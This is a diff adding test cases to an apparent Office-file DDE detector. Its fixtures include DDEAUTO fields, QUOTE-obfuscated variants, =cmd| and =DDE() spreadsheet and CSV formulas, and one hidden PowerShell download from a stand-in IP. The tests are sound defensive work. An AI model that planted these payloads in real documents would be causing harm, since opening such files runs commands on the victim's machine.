@@ -85,3 +85,69 @@ def test_rtf_ddeauto_field_is_flagged():
 ])
 def test_ordinary_fields_formulas_and_text_stay_clean(name, data):
     assert office_findings(DETECTOR, [(name, data)]) == []
+
+
+# ---------------------------------------------------------------- where DDE really hides (issue 12)
+
+from tests.builders_office import spreadsheetml, supbook_link, word2003_xml, xls_with_links  # noqa: E402
+
+
+def _runs_2003(*pieces: str) -> str:
+    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    runs += "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
+    return f'<w:p>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+
+
+def test_word2003_xml_field_split_over_runs_is_flagged():
+    body = _runs_2003("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc.exe"')
+    findings = office_findings(DETECTOR, [("a.doc", word2003_xml(body))])
+    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]
+
+
+def test_quote_character_codes_spelling_dde_are_decoded():
+    codes = " ".join(str(ord(c)) for c in "DDEAUTO")
+    body = _runs_2003(f"QUOTE {codes}", ' c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')
+    assert symbols_of(office_findings(DETECTOR, [("a.xml", word2003_xml(body))])) == {"OFFICE_DDE"}
+    harmless = _runs_2003("QUOTE 72 105")  # QUOTE used for what it is for: "Hi"
+    assert office_findings(DETECTOR, [("a.xml", word2003_xml(harmless))]) == []
+
+
+def test_utf16_doc_field_is_flagged():
+    text = '\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \x14\x15 견적서\r'
+    findings = office_findings(DETECTOR, [("견적서.doc", doc_with_text(text, "utf-16-le"))])
+    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd.exe" in findings[0].evidence["commands"]
+
+
+def test_xls_external_name_of_a_dde_source_is_flagged():
+    data = xls_with_links(supbook_link("cmd\x03/c powershell -w hidden iwr http://198.51.100.5/a", items=("A0",)))
+    findings = office_findings(DETECTOR, [("a.xls", data)])
+    assert symbols_of(findings) == {"OFFICE_DDE"}
+    assert findings[0].evidence["commands"] == "cmd|'/c powershell -w hidden iwr http://198.51.100.5/a'!A0"
+
+
+def test_xls_link_to_another_workbook_is_not_dde():
+    data = xls_with_links(supbook_link("\x01D\x02Share\x02Budget.xls", ctab=1, items=("Total",)))
+    assert office_findings(DETECTOR, [("a.xls", data)]) == []
+
+
+@pytest.mark.parametrize("formula", ["=cmd|' /c calc.exe'!A1", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+                                     '=DDE("cmd";"/c calc";"__DdeLink_60_870516294")'])
+def test_spreadsheetml_dde_formula_is_flagged(formula):
+    assert symbols_of(office_findings(DETECTOR, [("a.xml", spreadsheetml([formula]))])) == {"OFFICE_DDE"}
+
+
+def test_spreadsheetml_with_ordinary_formulas_is_clean():
+    assert office_findings(DETECTOR, [("a.xml", spreadsheetml(["=SUM(R[-2]C:R[-1]C)", "=IF(A1>0,\"ok\",\"\")"]))]) == []
+
+
+@pytest.mark.parametrize("line", ["@SUM(1+1)*cmd|' /C calc'!A0", '"=DDE(""cmd"";""/C calc"";""A0"")"'])
+def test_csv_dde_variants_are_flagged(line):
+    csv = f"id,name,total\r\n1,{line},3\r\n".encode()
+    assert symbols_of(office_findings(DETECTOR, [("orders.csv", csv)])) == {"OFFICE_DDE"}
+
+
+def test_doc_field_with_nested_quote_result_is_flagged():
+    # Word stores the nested field's result ("cmd") in the outer instruction when it evaluates it.
+    text = '\x13DDEAUTO \x13QUOTE 99 109 100\x14cmd\x15 "/c calc"\x14\x15Invoice\r'
+    findings = office_findings(DETECTOR, [("a.doc", doc_with_text(text))])
+    assert symbols_of(findings) == {"OFFICE_DDE"} and "cmd" in findings[0].evidence["commands"]
